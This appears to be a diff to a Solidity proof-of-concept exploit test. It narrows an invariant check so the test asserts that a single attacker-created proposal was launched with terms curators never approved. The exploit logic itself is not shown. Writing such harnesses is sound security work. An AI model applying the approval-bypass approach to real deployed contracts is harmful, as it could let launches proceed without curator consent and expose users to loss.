@@ -20,11 +20,12 @@ contract Attacker {
 
 contract Proof is Base {
     Attacker private other;
+    uint256 private id;
 
     function start() internal override {
         other = new Attacker();
         bytes32 termsHash = factory.curveHash(curveTerms("Weir", "WEIR", 85_000e18));
-        uint256 id = other.propose(registry, termsHash);
+        id = other.propose(registry, termsHash);
         vm.prank(FIRST);
         registry.approve(id, termsHash);
         vm.prank(OTHER);
@@ -32,13 +33,10 @@ contract Proof is Base {
         seen[termsHash] = true;
     }
 
-    /// Curators have seen the terms of everything that was launched.
-    function allApproved() public view returns (bool) {
-        for (uint256 i = 0; i < registry.proposals(); i++) {
-            ILaunchRegistry.Proposal memory p = registry.proposalOf(i);
-            if (p.launch != address(0) && !seen[p.termsHash]) return false;
-        }
-        return true;
+    /// Curators have seen the terms with which the proposal was launched, if it was.
+    function approvedIfLaunched() public view returns (bool) {
+        ILaunchRegistry.Proposal memory p = registry.proposalOf(id);
+        return p.launch == address(0) || seen[p.termsHash];
     }
 
     function exploit() public {
@@ -47,7 +45,7 @@ contract Proof is Base {
 
     function test_Exploit() public {
         exploit();
-        require(!allApproved(), "all were approved");
+        require(!approvedIfLaunched(), "the terms were approved");
     }
 
     function target() public view override returns (address) {
